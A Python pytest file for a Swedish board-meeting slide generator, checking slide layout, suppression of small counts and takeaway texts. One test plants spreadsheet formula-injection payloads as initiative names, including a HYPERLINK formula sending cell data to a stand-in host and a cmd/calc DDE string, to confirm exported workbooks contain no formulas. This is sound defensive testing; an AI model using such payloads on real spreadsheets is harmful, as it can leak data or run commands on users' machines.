"""The board pack (render/deck.py, render/takeaways.py): native charts, the engine's protection, nothing live.

Two databases: the generated sample (year 2025) and the small hand-made association of
tests/fixtures/small_association.py (year 2021). Expected figures come from the metrics layer and
the protection engine (render/protected.py), read independently of the deck's own drawing code.
The rendered deck is checked through LibreOffice: every slide's text inside the slide, no two text
blocks on top of each other.
"""
from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile

import openpyxl
import pandas as pd
import pytest
from pptx import Presentation
from pptx.util import Inches

from core.database import connect_read, connect_write
from core.vocabulary import SEX_COLUMNS, SEX_LABELS
from metrics import Filters
from metrics.catalog import association_name, status
from metrics.people import headline, inflow_by_agency
from render.deck import HIDDEN_SERIES, NOTES, TITLES, build_board_pack, file_name
from render.format import fmt_datetime, fmt_int
from render.protected import Shown
from render.takeaways import cost_takeaway, exits_takeaway, inflow_takeaway, women_target_takeaway
from render.text import describe, period_label

Y2025 = Filters.year(2025)
Y2021 = Filters.year(2021)
SLIDES = ["Styrelsemöte – Helår 2025", TITLES["headline"], TITLES["compare"], TITLES["inflow"], TITLES["gender"],
          TITLES["exits"], TITLES["cost"]]


@pytest.fixture(scope="module")
def sample_con(sample_db):
    con = connect_read(sample_db)
    yield con
    con.close()


@pytest.fixture(scope="module")
def small(small_db):
    con = connect_read(small_db)
    yield con
    con.close()


@pytest.fixture(scope="module")
def sample_bytes(sample_con):
    return build_board_pack(sample_con, Y2025, association=association_name(sample_con))


@pytest.fixture(scope="module")
def sample_deck(sample_bytes):
    return Presentation(io.BytesIO(sample_bytes))


@pytest.fixture(scope="module")
def small_deck(small):
    return Presentation(io.BytesIO(build_board_pack(small, Y2021, association="Samordningsförbundet Test")))


def charts(slide):
    return [sh.chart for sh in slide.shapes if sh.has_chart]


def series(chart) -> dict[str, tuple]:
    return {s.name: tuple(s.values) for s in chart.plots[0].series}


def shape_text(slide, name: str) -> str | None:
    hits = [sh.text_frame.text for sh in slide.shapes if sh.name == name and sh.has_text_frame]
    return hits[0] if hits else None


def table_rows(slide) -> list[list[str]]:
    tables = [sh.table for sh in slide.shapes if sh.has_table]
    assert len(tables) == 1
    return [[c.text for c in row.cells] for row in tables[0].rows]


# ---------------------------------------------------------------- structure

def test_deck_has_its_slides_in_order_16_9(sample_deck, small_deck):
    for deck, year in ((sample_deck, 2025), (small_deck, 2021)):
        assert [s.shapes.title.text for s in deck.slides] == [f"Styrelsemöte – Helår {year}", *SLIDES[1:]]
        assert (deck.slide_width, deck.slide_height) == (Inches(13.333), Inches(7.5))


def test_every_shape_stays_inside_the_slide(sample_deck, small_deck):
    for deck in (sample_deck, small_deck):
        for i, slide in enumerate(deck.slides):
            for sh in slide.shapes:
                assert sh.left >= 0 and sh.top >= 0, (i, sh.name)
                assert sh.left + sh.width <= deck.slide_width and sh.top + sh.height <= deck.slide_height, (i, sh.name)


def test_every_slide_names_its_definition_in_the_notes(sample_deck):
    notes = [s.notes_slide.notes_text_frame.text for s in sample_deck.slides]
    assert all(n.strip() for n in notes)
    assert "Deltagare: inskrivna någon gång under perioden" in notes[1]
    assert "föregående period" in notes[2]
    assert "Nya deltagare: start inom perioden" in notes[3]
    assert "Andel kvinnor: kvinnor delat med alla deltagare" in notes[4]
    assert "Avslutade: slut inom perioden" in notes[5]
    assert "budget" in notes[6] and "Kostnad per deltagare" in notes[6]
    assert notes[1] == NOTES["headline"]


def test_title_slide_names_the_association_from_the_data(sample_con, sample_deck):
    title = sample_deck.slides[0]
    assert shape_text(title, "Förbund") == association_name(sample_con)
    lines = shape_text(title, "Urval").split("\n")
    assert lines[0] == "Period: Helår 2025 (2025-01-01 – 2025-12-31)"
    assert lines[1] == f"Urval: {describe(Y2025)}"
    assert lines[2] == f"Data inlästa {fmt_datetime(status(sample_con)['last_load'])}"
    assert "<5" in lines[3] and ".." in lines[3]


def test_file_name_and_title_name_the_boards_period():
    from render.deck import deck_title

    assert file_name(Y2025) == "styrelseunderlag-2025.pptx"
    assert deck_title(Filters.tertial(2025, 2)) == "Styrelsemöte – Tertial 2 2025"
    assert deck_title(Filters.interim(2025)) == "Styrelsemöte – Delår (jan–aug) 2025"
    assert file_name(Filters.tertial(2025, 2)) == "styrelseunderlag-2025-05-01_2025-08-31.pptx"


# ---------------------------------------------------------------- figures as the engine decides them

def test_headline_table_is_what_the_engine_shows(sample_con, sample_deck):
    show = Shown(sample_con, Y2025, 5)
    h = headline(sample_con, Y2025)
    rows = {r[0]: r[1:] for r in table_rows(sample_deck.slides[1])[1:]}
    for measure, label in (("participants", "Deltagare"), ("started", "Nya deltagare"), ("exited", "Avslutade")):
        want = []
        for s in SEX_COLUMNS:
            v = show.count(measure, {}, s, h.loc[measure, s])
            want.append({-1: "<5", -2: ".."}.get(v, fmt_int(v)))
        assert rows[label] == want, label


def test_inflow_chart_stacks_sexes_and_draws_hidden_counts(small, small_deck):
    chart = charts(small_deck.slides[3])[0]
    show = Shown(small, Y2021, 5)
    agencies = inflow_by_agency(small, Y2021)
    got = series(chart)
    for s in ("women", "men"):
        want = [None if show.count("started", {"agency": a}, s, v) < 0 else v for a, v in zip(agencies.agency, agencies[s])]
        assert list(got[SEX_LABELS[s]]) == [None if w is None else pytest.approx(float(w)) for w in want]
    assert HIDDEN_SERIES in got  # the small association hides counts: drawn, hatched and labelled
    hidden = [s for s in chart.plots[0].series if s.name == HIDDEN_SERIES][0]
    labels = [p.data_label.text_frame.text for i, p in enumerate(hidden.points) if hidden.values[i]]
    assert labels and all(set(lbl.split()) <= {"<5", ".."} for lbl in labels)


def test_no_count_under_the_threshold_is_shown_anywhere(small_deck, sample_deck):
    for deck in (small_deck, sample_deck):
        for slide in deck.slides:
            for chart in charts(slide):
                if chart.plots[0].series[0].values and "kr" not in str(chart.plots[0].series[0].name):
                    for s in chart.plots[0].series:
                        if s.name in (SEX_LABELS["women"], SEX_LABELS["men"], SEX_LABELS["other"], "Utfall"):
                            assert not any(v is not None and float(v).is_integer() and 1 <= v <= 4
                                           and "%" not in str(s.name) for v in s.values if v is not None
                                           and chart.value_axis.tick_labels.number_format == "#,##0"), s.name
            for sh in slide.shapes:
                if sh.has_table:
                    for row in sh.table.rows:
                        for c in list(row.cells)[1:]:
                            assert not re.fullmatch(r"[1-4]", c.text.strip()), c.text


def test_gender_slide_shows_the_largest_initiatives_with_their_targets(sample_deck):
    chart = charts(sample_deck.slides[4])[0]
    cats = list(chart.plots[0].categories)
    assert 0 < len(cats) <= 10
    assert any("mål" in c for c in cats)  # the register's targets are named with the initiative, not drawn as bars


def test_embedded_workbooks_hold_no_formula_even_for_hostile_names(small_db, tmp_path):
    db = tmp_path / "inj.duckdb"
    shutil.copy(small_db, db)
    hostile = ['=HYPERLINK("http://x.example/?d="&A2,"Klicka")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    with connect_write(db) as con:
        for old, new in zip(("Alfa", "Beta", "Gamma"), hostile):
            for table in ("enrollments", "anonymous_counts", "budget_lines", "initiatives"):
                con.execute(f"UPDATE {table} SET initiative = ? WHERE initiative = ?", [new, old])
    with connect_read(db) as con:
        data = build_board_pack(con, Y2021, threshold=3)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        books = [z.read(n) for n in z.namelist() if n.endswith(".xlsx")]
    assert books
    for blob in books:
        wb = openpyxl.load_workbook(io.BytesIO(blob))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not any(c.data_type == "f" for c in cells)
        assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")) for c in cells)


def test_an_empty_period_gives_messages_not_charts(sample_con):
    deck = Presentation(io.BytesIO(build_board_pack(sample_con, Filters.year(2001))))
    for slide in list(deck.slides)[3:]:
        assert not charts(slide)


@pytest.mark.parametrize("f", [Filters.interim(2021), Filters.tertial(2021, 1), Filters.tertial(2021, 3)], ids=str)
def test_the_boards_shorter_periods_build_with_no_small_count_shown(small, f):
    """The deck for a delår or a tertial: its key figures are what the engine shows for that period (the view of the
    year's grid), and none of them is a count from 1 to 4."""
    deck = Presentation(io.BytesIO(build_board_pack(small, f, association="Samordningsförbundet Test")))
    rows = {r[0]: r[1:] for r in table_rows(deck.slides[1])[1:]}
    show, h = Shown(small, f, 5), headline(small, f)
    for measure, label in (("participants", "Deltagare"), ("started", "Nya deltagare"), ("exited", "Avslutade")):
        want = [{-1: "<5", -2: ".."}.get(v, fmt_int(v)) for v in
                (show.count(measure, {}, s, h.loc[measure, s]) for s in SEX_COLUMNS)]
        assert rows[label] == want, label
    assert not [c for r in rows.values() for c in r if c.isdigit() and 1 <= int(c) <= 4], rows


@pytest.mark.parametrize("f", [Filters(dt.date(2021, 3, 1), dt.date(2021, 9, 30)),
                               Filters(dt.date(2020, 1, 1), dt.date(2021, 12, 31))], ids=str)
def test_a_deck_off_the_years_grid_is_refused_in_swedish(small, f):
    """The deck is always protected, and protection shows the year, its delår and the tertials only."""
    from metrics.suppress import OFF_GRID, OffGrid

    with pytest.raises(OffGrid) as refused:
        build_board_pack(small, f)
    assert refused.value.message == OFF_GRID


# ---------------------------------------------------------------- takeaways (pure)

def _agencies(rows: dict[str, int]) -> pd.DataFrame:
    return pd.DataFrame([{"agency": a, "total": v} for a, v in rows.items()])


def test_inflow_takeaway_never_claims_most_over_a_hidden_count_of_unknown_size():
    assert inflow_takeaway(_agencies({"Kommun": 10, "Region": 10}), 20).startswith("Kommun och Region remitterade flest")
    assert "flest" in inflow_takeaway(_agencies({"Kommun": 10, "Region": -1}), 13)  # `<5` cannot be larger
    assert "flest" not in inflow_takeaway(_agencies({"Kommun": 10, "Region": -2}), 30)  # `..` might be
    assert inflow_takeaway(_agencies({"Kommun": 10}), -2) == "Kommun remitterade 10 nya deltagare."


def test_women_target_takeaway_uses_register_targets_only():
    w = pd.DataFrame({"initiative": ["A", "B"], "share": [0.3, 0.8], "target": [0.5, 0.5], "registered": [False, False]})
    assert "jämfört med 50" in women_target_takeaway(w, 0.55) and "mål" not in women_target_takeaway(w, 0.55).split(",")[0]
    w["registered"] = [True, False]
    assert women_target_takeaway(w, 0.55).startswith("A ligger längst från sitt mål")
    w["share"] = [None, 0.8]
    assert "inga mål" in women_target_takeaway(w, 0.55)


def test_exits_and_cost_takeaways_leave_out_what_is_hidden():
    assert exits_takeaway({"total": None}, 12).startswith("De avslutade är för få")
    assert exits_takeaway({"total": 0.4, "women": 0.5, "men": None, "other": None}, 12) == \
        "Andelen avslutade till arbete eller studier var 40,0\u00a0%: kvinnor 50,0\u00a0%."
    assert exits_takeaway({"total": None}, 0) == "Inga avslut ännu under perioden."
    c = pd.DataFrame({"initiative": ["A", "B"], "shown": [None, 1000.0], "basis": ["utfall", "budget"]})
    assert cost_takeaway(c, None) == "Kostnaden per deltagare var 1\u00a0000\u00a0kr, budget i B."


# ---------------------------------------------------------------- rendered

def _boxes(pdf: bytes, tmp_path) -> list[tuple[int, float, float, list[tuple[float, float, float, float]]]]:
    """Per page: its width, height and the bounding boxes of its text blocks (pdftotext -bbox-layout)."""
    (tmp_path / "deck.pdf").write_bytes(pdf)
    html = subprocess.run(["pdftotext", "-bbox-layout", str(tmp_path / "deck.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout
    pages = []
    for m in re.finditer(r'<page width="([\d.]+)" height="([\d.]+)">(.*?)</page>', html, re.S):
        blocks = [tuple(float(x) for x in b) for b in re.findall(
            r'<block xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">', m[3])]
        pages.append((len(pages), float(m[1]), float(m[2]), blocks))
    return pages


def test_rendered_slides_keep_text_inside_and_apart(sample_bytes, tmp_path):
    """LibreOffice renders the deck; every text block lies on its slide and no two text blocks overlap."""
    (tmp_path / "deck.pptx").write_bytes(sample_bytes)
    subprocess.run(["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path),
                    str(tmp_path / "deck.pptx")], check=True, capture_output=True, timeout=180,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    pages = _boxes((tmp_path / "deck.pdf").read_bytes(), tmp_path)
    assert len(pages) == len(SLIDES)
    for i, w, h, blocks in pages:
        assert blocks, i
        for x0, y0, x1, y1 in blocks:
            assert 0 <= x0 and x1 <= w + 0.5 and 0 <= y0 and y1 <= h + 0.5, (i, (x0, y0, x1, y1))
        for a in range(len(blocks)):
            for b in range(a + 1, len(blocks)):
                ax0, ay0, ax1, ay1 = blocks[a]
                bx0, by0, bx1, by1 = blocks[b]
                overlap = min(ax1, bx1) - max(ax0, bx0) > 2 and min(ay1, by1) - max(ay0, by0) > 2
                assert not overlap, (SLIDES[i], blocks[a], blocks[b])
